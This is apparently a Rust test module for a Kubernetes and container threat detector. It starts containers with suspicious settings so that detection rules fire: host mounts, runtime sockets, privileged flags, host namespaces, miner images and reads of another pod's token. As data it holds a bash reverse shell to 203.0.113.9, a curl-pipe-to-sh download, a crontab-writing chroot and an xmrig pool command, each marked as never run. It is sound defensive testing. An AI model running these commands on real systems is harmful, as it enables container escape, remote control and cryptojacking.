//! Containers that are suspicious by how they are started. Nothing runs in them.

use super::k8s_audit;
use super::servers::Service;
use super::stage::{Stage, bind};
use super::world::Peer;
use super::{KeyNeeds, KeyRehearsal, RehearsalError, documents, run};
use crate::bundle::{HostNamespace, Privileges};
use crate::container::ContainerOptions;
use std::collections::BTreeMap;
use std::fs;
use std::path::Path;
use yagura_event::DocumentSource::K8sAudit;

const MOUNT: &str = "k8s.suspicious_mount";
const LATERAL: &str = "k8s.sa_lateral_movement";
const IMAGE: &str = "k8s.malicious_image_pod";
const PRIVILEGED: &str = "proc.privileged_container";
const MALICIOUS: &str = "proc.malicious_container";

/// A folder that another pod's projected volume stands in.
const OTHER_POD: &str = "pods/5f1c2a6e-9d0b-4c56-8a53-0a1b2c3d4e5f/volumes/kubernetes.io~projected/kube-api-access-x7k2p";

pub(super) const SUSPICIOUS_MOUNT: &[KeyRehearsal] = &[
    documents(
        MOUNT,
        "mount-audit-host-path",
        "pods are created with folders of the host",
        K8sAudit,
        k8s_audit::host_path_pods,
    ),
    documents(
        MOUNT,
        "mount-audit-volume",
        "a persistent volume leads to the host's root",
        K8sAudit,
        k8s_audit::host_path_volume,
    ),
    run(
        MOUNT,
        "mount-root",
        "a container with the host's root, read-only",
        KeyNeeds::NOTHING,
        |stage| mounted(stage, Path::new("/"), "/host"),
    ),
    run(
        MOUNT,
        "mount-etc",
        "a container with the host's /etc, read-only",
        KeyNeeds::NOTHING,
        |stage| mounted(stage, Path::new("/etc"), "/host/etc"),
    ),
    run(
        MOUNT,
        "mount-log",
        "a container with the host's logs, read-only",
        KeyNeeds::NOTHING,
        |stage| mounted(stage, Path::new("/var/log"), "/var/log"),
    ),
    run(
        MOUNT,
        "mount-proc",
        "a container with the host's /proc, read-only",
        KeyNeeds::NOTHING,
        |stage| mounted(stage, Path::new("/proc"), "/host/proc"),
    ),
    run(
        MOUNT,
        "mount-docker-socket",
        "a container with a stand-in for Docker's socket",
        KeyNeeds::NOTHING,
        |stage| socket(stage, "var/run", "docker.sock", "/var/run/docker.sock"),
    ),
    run(
        MOUNT,
        "mount-containerd-socket",
        "a container with a stand-in for containerd's socket",
        KeyNeeds::NOTHING,
        |stage| {
            socket(
                stage,
                "run/containerd",
                "containerd.sock",
                "/run/containerd/containerd.sock",
            )
        },
    ),
    run(
        MOUNT,
        "mount-crio-socket",
        "a container with a stand-in for CRI-O's socket",
        KeyNeeds::NOTHING,
        |stage| {
            socket(
                stage,
                "var/run/crio",
                "crio.sock",
                "/var/run/crio/crio.sock",
            )
        },
    ),
    run(
        MOUNT,
        "mount-sys",
        "a container with the host's /sys, read-only",
        KeyNeeds::NOTHING,
        |stage| mounted(stage, Path::new("/sys"), "/host/sys"),
    ),
    run(
        MOUNT,
        "mount-dev",
        "a container with the host's /dev, read-only",
        KeyNeeds::NOTHING,
        |stage| mounted(stage, Path::new("/dev"), "/host/dev"),
    ),
    run(
        MOUNT,
        "mount-root-home",
        "a container with the home of the host's root, read-only",
        KeyNeeds::NOTHING,
        |stage| mounted(stage, Path::new("/root"), "/host/root"),
    ),
    run(
        MOUNT,
        "mount-kubelet-pki",
        "a container with a stand-in for the kubelet's keys",
        KeyNeeds::NOTHING,
        |stage| {
            let dir = stage.host_dir("var/lib/kubelet/pki")?;
            mounted(stage, &dir, "/var/lib/kubelet/pki")
        },
    ),
    run(
        MOUNT,
        "mount-kubelet",
        "a container with a stand-in for the kubelet's folder",
        KeyNeeds::NOTHING,
        |stage| {
            let dir = stage.host_dir("var/lib/kubelet")?;
            mounted(stage, &dir, "/var/lib/kubelet")
        },
    ),
];

pub(super) const SA_LATERAL_MOVEMENT: &[KeyRehearsal] = &[
    documents(
        LATERAL,
        "accounts-one-origin",
        "one address acts as several service accounts",
        K8sAudit,
        k8s_audit::one_origin_many_accounts,
    ),
    documents(
        LATERAL,
        "accounts-token-request",
        "a service account asks for another one's token",
        K8sAudit,
        k8s_audit::token_of_another,
    ),
    documents(
        LATERAL,
        "accounts-secret-read",
        "a service account reads another one's token from its secret",
        K8sAudit,
        k8s_audit::token_secret_of_another,
    ),
    documents(
        LATERAL,
        "accounts-stronger-pod",
        "a service account creates a pod under a stronger one",
        K8sAudit,
        k8s_audit::pod_under_stronger_account,
    ),
    documents(
        LATERAL,
        "accounts-other-namespace",
        "a service account acts outside its namespace",
        K8sAudit,
        k8s_audit::outside_own_namespace,
    ),
    run(
        LATERAL,
        "accounts-token-file",
        "a process reads another pod's token",
        KeyNeeds::NOTHING,
        |stage| token_file(stage, "/var/lib/kubelet"),
    ),
    run(
        LATERAL,
        "accounts-token-file-host",
        "the same below a mount of the host's root",
        KeyNeeds::NOTHING,
        |stage| token_file(stage, "/host/var/lib/kubelet"),
    ),
];

pub(super) const MALICIOUS_IMAGE_POD: &[KeyRehearsal] = &[
    documents(
        IMAGE,
        "image-audit",
        "a pod is created from a listed image",
        K8sAudit,
        k8s_audit::malicious_image,
    ),
    run(
        IMAGE,
        "image-container-miner",
        "a container whose image reference is a miner's",
        KeyNeeds::NOTHING,
        |stage| {
            image(
                stage,
                &["docker.io/kannix/monero", "-miner:latest"].concat(),
            )
        },
    ),
    run(
        IMAGE,
        "image-container-listed",
        "a container whose image reference is on public lists of malicious ones",
        KeyNeeds::NOTHING,
        |stage| image(stage, &["docker.io/pocosow/", "centos:7.6.1810"].concat()),
    ),
    run(
        IMAGE,
        "image-container-xmrig",
        "a container whose image is named after a miner, in a private registry",
        KeyNeeds::NOTHING,
        |stage| {
            image(
                stage,
                &["registry.example:5000/tools/xm", "rig:6.21"].concat(),
            )
        },
    ),
];

pub(super) const PRIVILEGED_CONTAINER: &[KeyRehearsal] = &[
    run(
        PRIVILEGED,
        "privileged-start",
        "a privileged container",
        KeyNeeds::NOTHING,
        |stage| {
            let options = ContainerOptions {
                privileges: Privileges::Privileged,
                sysfs: true,
                ..stage.options()
            };
            stage.act_start(&options)
        },
    ),
    run(
        PRIVILEGED,
        "privileged-capabilities",
        "a container with dangerous capabilities",
        KeyNeeds::NOTHING,
        |stage| {
            let options = ContainerOptions {
                capabilities: &["SYS_ADMIN", "SYS_PTRACE", "SYS_MODULE", "DAC_READ_SEARCH"],
                ..stage.options()
            };
            stage.act_start(&options)
        },
    ),
    run(
        PRIVILEGED,
        "privileged-host-pid",
        "a container among the host's processes",
        KeyNeeds::NOTHING,
        |stage| in_host(stage, &[HostNamespace::Pid]),
    ),
    run(
        PRIVILEGED,
        "privileged-host-network",
        "a container on the host's network",
        KeyNeeds::NOTHING,
        |stage| in_host(stage, &[HostNamespace::Network]),
    ),
    run(
        PRIVILEGED,
        "privileged-host-ipc",
        "a container on the host's shared memory",
        KeyNeeds::NOTHING,
        |stage| in_host(stage, &[HostNamespace::Ipc, HostNamespace::Uts]),
    ),
    documents(
        PRIVILEGED,
        "privileged-audit",
        "privileged pods are created",
        K8sAudit,
        k8s_audit::privileged_pods,
    ),
];

pub(super) const MALICIOUS_CONTAINER: &[KeyRehearsal] = &[
    run(
        MALICIOUS,
        "container-miner",
        "a container whose command is a miner's",
        KeyNeeds::NOTHING,
        |stage| {
            let pool = ["stratum+", "tcp://pool.example:3333"].concat();
            first(
                stage,
                &[
                    "/opt/miner/xmrig",
                    "-o",
                    &pool,
                    "-u",
                    "wallet",
                    "--donate-level=1",
                ],
            )
        },
    ),
    run(
        MALICIOUS,
        "container-reverse-shell",
        "a container whose command is a reverse shell; it is never run",
        KeyNeeds::NOTHING,
        |stage| {
            let line = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
            first(stage, &["/opt/entry/bash", "-c", line])
        },
    ),
    run(
        MALICIOUS,
        "container-download",
        "a container whose command fetches a script into a shell; it is never run",
        KeyNeeds::NOTHING,
        |stage| {
            let line = "curl -fsSL http://203.0.113.7/i.sh | sh";
            first(stage, &["/opt/entry/sh", "-c", line])
        },
    ),
    run(
        MALICIOUS,
        "container-chroot-host",
        "a container with the host's root, read-only, whose command enters it; it is never run",
        KeyNeeds::NOTHING,
        |stage| {
            let options = ContainerOptions {
                mounts: vec![bind(Path::new("/"), "/host", true)],
                argv: owned(&[
                    "/opt/entry/chroot",
                    "/host",
                    "/bin/sh",
                    "-c",
                    "echo x >> /etc/crontab",
                ]),
                ..stage.options()
            };
            stage.act_start(&options)
        },
    ),
];

/// Starts a container with a mount. Where it is the host's own, it is read-only, and nothing runs that would read it.
fn mounted(stage: &mut Stage, source: &Path, destination: &str) -> Result<(), RehearsalError> {
    let mut options = stage.options();
    options.annotations = pod("web-0", "docker.io/library/busybox:1.36");
    options.mounts.push(bind(source, destination, true));
    stage.act_start(&options)
}

fn socket(
    stage: &mut Stage,
    dir: &str,
    name: &str,
    destination: &str,
) -> Result<(), RehearsalError> {
    let path = stage.host_dir(dir)?.join(name);
    let server = Peer::on_sockets()?;
    server.serve_unix(&path, Service::Sink)?;
    stage.keep(server);
    mounted(stage, &path, destination)
}

fn token_file(stage: &mut Stage, at: &str) -> Result<(), RehearsalError> {
    let kubelet = stage.host_dir("var/lib/kubelet")?;
    let folder = stage.host_dir(&format!("var/lib/kubelet/{OTHER_POD}"))?;
    fs::write(folder.join("token"), "a stand-in for a token").map_err(|source| {
        RehearsalError::Peer {
            what: "no stand-in for a token",
            source,
        }
    })?;
    let mut options = stage.options();
    options.mounts.push(bind(&kubelet, at, true));
    let container = stage.start(&options)?;
    stage.act_shell(&container, &format!("cat {at}/{OTHER_POD}/token"))
}

fn image(stage: &mut Stage, reference: &str) -> Result<(), RehearsalError> {
    let mut options = stage.options();
    options.annotations = pod("batch-7", reference);
    stage.act_start(&options)
}

fn in_host(stage: &mut Stage, namespaces: &[HostNamespace]) -> Result<(), RehearsalError> {
    let mut options = stage.options();
    options.host_namespaces = namespaces.to_vec();
    stage.act_start(&options)
}

fn first(stage: &mut Stage, argv: &[&str]) -> Result<(), RehearsalError> {
    let mut options = stage.options();
    options.argv = owned(argv);
    stage.act_start(&options)
}

fn owned(argv: &[&str]) -> Vec<String> {
    argv.iter().map(|&word| word.to_owned()).collect()
}

/// What containerd writes about a pod's container.
fn pod(name: &str, image: &str) -> BTreeMap<String, String> {
    [
        ("io.kubernetes.cri.container-type", "container"),
        ("io.kubernetes.cri.container-name", "main"),
        ("io.kubernetes.cri.sandbox-name", name),
        ("io.kubernetes.cri.sandbox-namespace", "default"),
        (
            "io.kubernetes.cri.sandbox-uid",
            "7d3c1b52-6f0e-4b0a-8f6e-2c9d8e7f6a5b",
        ),
        ("io.kubernetes.cri.image-name", image),
    ]
    .into_iter()
    .map(|(key, value)| (key.to_owned(), value.to_owned()))
    .collect()
}
